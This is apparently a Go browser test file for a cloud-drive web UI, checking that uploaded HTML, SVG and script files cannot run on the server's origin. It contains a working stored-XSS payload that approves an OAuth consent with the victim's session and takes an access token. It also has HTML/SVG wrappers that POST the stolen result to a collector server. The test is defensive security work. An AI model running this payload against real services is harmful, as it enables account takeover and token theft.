package webui_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"image/color"
	"io"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/clouddrive/clouddrive/internal/app"
	"github.com/clouddrive/clouddrive/internal/drivetest"
)

// stealJS is the attack of the stored-XSS finding, as a function of the
// server's base URL: with the visitor's OAuth session cookie it reads the
// consent page of the web client, approves it, redeems the code (PKCE with
// a verifier of its own) and returns the access token, with the cookies it
// could read.
const stealJS = `async function steal(base) {
  const out = { origin: String(location.origin), cookie: document.cookie, consent: false, code: false, token: '' };
  const verifier = 'v'.repeat(64);
  const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier)));
  const challenge = btoa(String.fromCharCode(...digest)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  const redirect = base + '/ui/callback';
  const q = new URLSearchParams({ client_id: 'clouddrive-web', response_type: 'code', redirect_uri: redirect,
    scope: 'clouddrive:read_all clouddrive:write', state: 's', code_challenge: challenge, code_challenge_method: 'S256' });
  const html = await (await fetch(base + '/ap/oa?' + q, { credentials: 'include' })).text();
  const form = new DOMParser().parseFromString(html, 'text/html').querySelector('form');
  out.consent = !!form && html.includes('approve');
  if (!out.consent) return out;
  const body = new URLSearchParams(new FormData(form));
  body.set('op', 'approve');
  const res = await fetch(new URL(form.getAttribute('action') || '', base + '/ap/oa').href, { method: 'POST', body, credentials: 'include' });
  const code = new URL(res.url).searchParams.get('code');
  out.code = !!code;
  if (!code) return out;
  const tok = await (await fetch(base + '/auth/o2/token', { method: 'POST', body: new URLSearchParams({
    grant_type: 'authorization_code', code, redirect_uri: redirect, client_id: 'clouddrive-web', code_verifier: verifier }) })).json();
  out.token = tok.access_token || '';
  return out;
}`

// stolen is what stealJS returns.
type stolen struct {
	Origin, Cookie, Token string
	Consent, Code         bool
}

// collector is a loopback server that records every request a payload
// makes (its beacons), and serves /control.js, a script that is allowed
// to run where the test bypasses the page's policy.
type collector struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
}

func newCollector(t *testing.T) *collector {
	c := &collector{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/control.js" {
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = io.WriteString(w, "window.__control = true;")
			return
		}
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<16))
		c.mu.Lock()
		c.hits = append(c.hits, r.Method+" "+r.URL.String()+" "+string(body))
		c.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(c.Close)
	return c
}

func (c *collector) collected() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.hits...)
}

// payloads returns an HTML page and an SVG image that run the attack
// against base as soon as they are parsed, report to col (a beacon when
// they start, the result when done) and mark document.title.
func payloads(base, col string) (html, svg []byte) {
	run := fmt.Sprintf(`new Image().src = %q + '/ran?where=' + encodeURIComponent(location.href);
document.title = 'ran';
(%s)(%q).then((r) => fetch(%q + '/stolen', { method: 'POST', mode: 'no-cors', body: JSON.stringify(r) }),
  (e) => fetch(%q + '/failed', { method: 'POST', mode: 'no-cors', body: String(e) }));`, col, stealJS, base, col, col)
	html = []byte("<!doctype html><html><head><title>holiday photos</title></head><body><h1>Photos</h1><script>" + run + "</script></body></html>")
	svg = []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100" fill="red"/><script><![CDATA[` + run + `]]></script></svg>`)
	return html, svg
}

// attacker uploads files and makes links with a user's token.
type attacker struct {
	t           *testing.T
	base, token string // base: the API's public URL; content: its content URL
	content     string
	root        string
}

func newAttacker(t *testing.T, base, content, token string) *attacker {
	a := &attacker{t: t, base: base, content: content, token: token}
	var l struct{ Data []struct{ ID string } }
	a.json("GET", "/drive/v1/nodes?filters=isRoot:true", "", &l)
	a.root = l.Data[0].ID
	return a
}

func (a *attacker) json(method, path, body string, v any) {
	a.t.Helper()
	st, b := apiClient{t: a.t, base: a.base, token: a.token}.do(method, path, body)
	if st/100 != 2 {
		a.t.Fatalf("%s %s: %d %s", method, path, st, b)
	}
	if err := json.Unmarshal(b, v); err != nil {
		a.t.Fatalf("%s %s: %v: %s", method, path, err, b)
	}
}

// upload stores content as name with the Content-Type ctype, through the
// content URL, and returns the node id.
func (a *attacker) upload(name, ctype string, content []byte) string {
	a.t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	_ = mw.WriteField("metadata", fmt.Sprintf(`{"name":%q,"kind":"FILE","parents":[%q]}`, name, a.root))
	pw, _ := mw.CreatePart(textproto.MIMEHeader{"Content-Disposition": {fmt.Sprintf(`form-data; name="content"; filename=%q`, name)},
		"Content-Type": {ctype}})
	_, _ = pw.Write(content)
	_ = mw.Close()
	req, _ := http.NewRequest("POST", a.content+"/cdproxy/nodes?suppress=deduplication", &buf)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.Header.Set("Authorization", "Bearer "+a.token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		a.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	var n struct{ ID string }
	if resp.StatusCode != http.StatusCreated || json.Unmarshal(b, &n) != nil {
		a.t.Fatalf("upload %s: %d %s", name, resp.StatusCode, b)
	}
	return n.ID
}

func (a *attacker) tempLink(id string) string {
	a.t.Helper()
	var n struct{ TempLink string }
	a.json("GET", "/drive/v1/nodes/"+id+"?tempLink=true", "", &n)
	return n.TempLink
}

func (a *attacker) shareLink(id string) string {
	a.t.Helper()
	var l struct{ URL string }
	a.json("POST", "/drive/v1/nodes/"+id+"/links", "", &l)
	return l.URL
}

// downloads records the downloads the browser starts and finishes.
type downloads struct {
	dir   string
	mu    sync.Mutex
	begun map[string]string // guid -> URL
	names map[string]string // guid -> suggested file name
	done  map[string]bool   // guid -> completed
}

// watchDownloads makes the browser save downloads in a new directory and
// report them.
func (b *browserTest) watchDownloads() *downloads {
	d := &downloads{dir: b.t.TempDir(), begun: map[string]string{}, names: map[string]string{}, done: map[string]bool{}}
	on := true
	if _, err := chromedp.CallBrowser(b.ctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{
		Behavior: browser.SetDownloadBehaviorBehaviorAllow, DownloadPath: d.dir, EventsEnabled: &on}); err != nil {
		b.t.Fatal(err)
	}
	_ = chromedp.ListenBrowser(b.ctx, func(ev any) {
		d.mu.Lock()
		defer d.mu.Unlock()
		switch ev := ev.(type) {
		case *browser.EventDownloadWillBegin:
			d.begun[ev.GUID], d.names[ev.GUID] = ev.URL, ev.SuggestedFilename
		case *browser.EventDownloadProgress:
			if ev.State == browser.DownloadProgressStateCompleted {
				d.done[ev.GUID] = true
			}
		}
	})
	return d
}

// wait waits until the download of u has completed and returns its bytes
// (nil, and an error of t, when the browser did not download it).
func (d *downloads) wait(t *testing.T, u string) []byte {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		d.mu.Lock()
		for guid, bu := range d.begun {
			if bu == u && d.done[guid] {
				name := d.names[guid]
				d.mu.Unlock()
				b, err := os.ReadFile(filepath.Join(d.dir, name))
				if err != nil {
					t.Fatalf("download of %s: %v", u, err)
				}
				return b
			}
		}
		d.mu.Unlock()
	}
	t.Errorf("%s was not downloaded", u)
	return nil
}

// visit navigates the main tab to u as a victim clicking a link: a reply
// the browser saves instead of showing aborts the navigation, which is
// not an error here.
func (b *browserTest) visit(u string) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 20*time.Second)
	defer cancel()
	err := chromedp.Do(ctx, chromedp.Navigate(u))
	var le *chromedp.LoadError
	if err != nil && !errors.As(err, &le) {
		b.t.Fatalf("navigate to %s: %v", u, err)
	}
}

// scriptResult is what injectScript reports.
type scriptResult struct {
	Loaded, Violated, Marker, Control bool
}

// injectScript adds <script src=u> to the page in the main tab, as an
// injection into the UI would, and reports whether it loaded, whether the
// page's policy refused it, and whether the user's script ran
// (window.__owned) or the control script did (window.__control).
func injectScript(b *browserTest, u string) scriptResult {
	b.t.Helper()
	return eval[scriptResult](b, b.ctx, fmt.Sprintf(`new Promise((resolve) => {
  let violated = false, settled = null;
  const done = () => resolve({ loaded: settled === 'load', violated, marker: !!window.__owned, control: !!window.__control });
  document.addEventListener('securitypolicyviolation', (e) => { if (e.blockedURI === %[1]q) { violated = true; if (settled) done(); } });
  const s = document.createElement('script');
  s.src = %[1]q;
  s.onload = () => { settled = 'load'; done(); };
  // A refusal by policy reports its violation event shortly after the
  // error event; wait a little for it.
  s.onerror = () => { settled = 'error'; setTimeout(done, 1000); };
  document.head.append(s);
})`, u))
}

// TestUserContentBrowser: files a user uploads cannot act as pages of the
// server's origin. Mallory uploads an HTML page and an SVG that carry the
// attack of the stored-XSS finding (read the OAuth consent page with the
// visitor's session, approve it, redeem the code for a read+write token)
// and a JavaScript file; Ada, signed in to the web UI, opens them through
// temp links and share links, and the UI itself is made to include the
// script. Nothing runs: the pages are downloaded (attachments), files
// that lie about their type are shown passively, the UI's policy refuses
// the script, and even with that policy bypassed, the script's type is
// refused (nosniff). The same attack from the UI's own origin, run through
// DevTools, does get a token: the payload is real. Then a server with a
// separate content origin: the UI works across the two origins (upload,
// thumbnail, download), and the payload on the content host gets nothing.
func TestUserContentBrowser(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 150*time.Second)
	defer cancel()
	col := newCollector(t)

	s := drivetest.New(t, drivetest.Options{})
	const user, pass = "ada", "analytical engine"
	addPasswordUser(t, s, user, pass)
	mallory := newAttacker(t, s.URL, s.URL, s.Token("mallory"))
	html, svg := payloads(s.URL, col.URL)
	script := []byte(fmt.Sprintf(`window.__owned = true; new Image().src = %q + '/script-ran';`, col.URL))
	htmlID := mallory.upload("photos.html", "text/html", html)
	svgID := mallory.upload("cat.svg", "image/svg+xml", svg)
	plainID := mallory.upload("notes.txt", "text/plain", html)
	lyingID := mallory.upload("sunset.png", "image/png", html)
	jsID := mallory.upload("lib.js", "text/javascript", script)

	b := newBrowser(t, ctx)
	dl := b.watchDownloads()
	b.signIn(s.URL, user, pass)

	// The control: the payload, run on the UI's origin, takes Ada's token.
	if got := eval[stolen](b, b.ctx, "("+stealJS+")("+jsString(s.URL)+")"); got.Token == "" || !got.Consent || !got.Code {
		t.Fatalf("control: the payload run on the server's origin did not get a token (%+v): the test would prove nothing", got)
	}

	// Ada opens Mallory's links: the HTML and SVG pages are saved, not shown.
	for _, c := range []struct {
		what, url string
		want      []byte
	}{
		{"HTML temp link", mallory.tempLink(htmlID), html},
		{"SVG temp link", mallory.tempLink(svgID), svg},
		{"HTML share link", mallory.shareLink(htmlID), html},
		{"SVG share link", mallory.shareLink(svgID), svg},
	} {
		b.visit(c.url)
		if got := dl.wait(t, c.url); got != nil && !bytes.Equal(got, c.want) {
			t.Errorf("%s: downloaded %d bytes, want the %d uploaded", c.what, len(got), len(c.want))
		}
		if title := eval[string](b, b.ctx, "document.title"); title == "ran" {
			t.Errorf("%s: the payload ran", c.what)
		}
	}

	// Files whose stored type is passive are shown, passively: the page's
	// text as text, the "PNG" as a broken image. No script runs.
	for _, c := range []struct{ what, url string }{
		{"HTML stored as text/plain", mallory.tempLink(plainID)},
		{"HTML stored as image/png", mallory.tempLink(lyingID)},
		{"HTML stored as text/plain, share link", mallory.shareLink(plainID)},
	} {
		b.visit(c.url)
		if loc := eval[string](b, b.ctx, "location.href"); loc != c.url {
			t.Errorf("%s: the tab is at %s, want the link shown", c.what, loc)
		}
		if title := eval[string](b, b.ctx, "document.title"); title == "ran" {
			t.Errorf("%s: the payload ran", c.what)
		}
	}
	b.visit(mallory.tempLink(plainID))
	if text := eval[string](b, b.ctx, "document.body.innerText"); !strings.Contains(text, "<script>") {
		t.Errorf("HTML stored as text/plain is not shown as text: %.80q", text)
	}

	// The content route itself needs a bearer token, which no navigation carries.
	if st, _ := publicGet(t, s.URL+"/cdproxy/nodes/"+htmlID+"/content"); st != http.StatusUnauthorized {
		t.Errorf("content route without a token: %d, want 401", st)
	}

	// The UI cannot be made to run Mallory's script: its policy trusts
	// only the nonce of its own module...
	jsLink := mallory.tempLink(jsID)
	b.visit(s.URL + "/ui/")
	b.do(b.ctx, "UI ready", chromedp.WaitReady(chromedp.CSS(`body[data-ready="1"]`)))
	if r := injectScript(b, jsLink); r.Loaded || r.Marker || !r.Violated {
		t.Errorf("user script in the UI: %+v, want refused by the UI's policy", r)
	}
	if r := eval[string](b, b.ctx, fmt.Sprintf(`import(%q).then(() => 'imported', () => 'refused')`, jsLink)); r != "refused" || eval[bool](b, b.ctx, "!!window.__owned") {
		t.Errorf("import() of a user script in the UI: %s", r)
	}
	// ...and with that policy bypassed (DevTools), the script's type is
	// refused under nosniff, while a real script loads.
	if _, err := chromedp.Call(b.ctx, page.SetBypassCSP, page.SetBypassCSPParams{Enabled: true}); err != nil {
		t.Fatal(err)
	}
	b.visit(s.URL + "/ui/")
	b.do(b.ctx, "UI ready without CSP", chromedp.WaitReady(chromedp.CSS(`body[data-ready="1"]`)))
	if r := injectScript(b, col.URL+"/control.js"); !r.Loaded || !r.Control {
		t.Fatalf("control script with the policy bypassed: %+v, want it run", r)
	}
	if r := injectScript(b, jsLink); r.Loaded || r.Marker {
		t.Errorf("user script with the UI's policy bypassed: %+v, want refused for its type", r)
	}
	if _, err := chromedp.Call(b.ctx, page.SetBypassCSP, page.SetBypassCSPParams{Enabled: false}); err != nil {
		t.Fatal(err)
	}

	// A separate content origin: the public URL on 127.0.0.1, the content
	// URL on localhost, one listener.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := ln.Addr().(*net.TCPAddr).Port
	public, content := fmt.Sprintf("http://127.0.0.1:%d", port), fmt.Sprintf("http://localhost:%d", port)
	cfg := app.Config{DataDir: t.TempDir(), PublicURL: public, ContentURL: content, WebhookPoll: -1}
	a2, err := app.Open(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	srv := &httptest.Server{Listener: ln, Config: &http.Server{Handler: a2.Handler()}}
	srv.Start()
	defer func() { srv.Close(); a2.Close() }()
	s2 := &drivetest.Server{URL: public, App: a2}
	addPasswordUser(t, s2, user, pass)
	tok, err := app.AdminToken(context.Background(), cfg, a2.Meta, "mallory", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	mallory2 := newAttacker(t, public, content, tok)
	html2, _ := payloads(public, col.URL)
	page2 := mallory2.upload("photos.html", "text/html", html2)

	b.signIn(public, user, pass)
	pic := pngBytes(t, color.RGBA{30, 160, 90, 255})
	picFile := filepath.Join(t.TempDir(), "meadow.png")
	if err := os.WriteFile(picFile, pic, 0o644); err != nil {
		t.Fatal(err)
	}
	b.do(b.ctx, "upload to the content origin",
		chromedp.SetUploadFiles(chromedp.ID("file-input"), []string{picFile}),
		chromedp.WaitVisible(chromedp.CSS(row("meadow.png"))),
		poll(`document.body.dataset.uploading === '0'`),
		chromedp.WaitVisible(chromedp.CSS(row("meadow.png")+` img.thumb-img[src^="blob:"]`)),
	)
	b.do(b.ctx, "download from the content origin",
		tick("meadow.png"),
		click(chromedp.CSS(`#selbar [data-act=download]`)),
	)
	var picLink string
	for deadline := time.Now().Add(20 * time.Second); picLink == "" && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		dl.mu.Lock()
		for _, u := range dl.begun {
			if strings.HasPrefix(u, content+"/cdproxy/templink/") {
				picLink = u
			}
		}
		dl.mu.Unlock()
	}
	if picLink == "" {
		t.Fatalf("the UI's download did not go to the content origin %s", content)
	}
	if got := dl.wait(t, picLink); !bytes.Equal(got, pic) {
		t.Errorf("download from the content origin: %d bytes, want the %d uploaded", len(got), len(pic))
	}
	link2 := mallory2.tempLink(page2)
	if !strings.HasPrefix(link2, content+"/") {
		t.Fatalf("temp link %s is not on the content origin", link2)
	}
	b.visit(link2)
	if got := dl.wait(t, link2); !bytes.Equal(got, html2) {
		t.Errorf("HTML temp link on the content origin: %d bytes", len(got))
	}

	// Nothing reached the collector; /flush, sent last, shows that earlier
	// beacons would have arrived.
	b.visit(col.URL + "/flush")
	hits := col.collected()
	if len(hits) == 0 || !strings.HasPrefix(hits[len(hits)-1], "GET /flush") {
		t.Errorf("collector hits %q, want only the final /flush", hits)
	}
	for _, h := range hits {
		if !strings.HasPrefix(h, "GET /flush") && !strings.HasPrefix(h, "GET /favicon.ico") {
			t.Errorf("a payload ran: %s", h)
		}
	}
}

// jsString quotes s as a JavaScript string.
func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
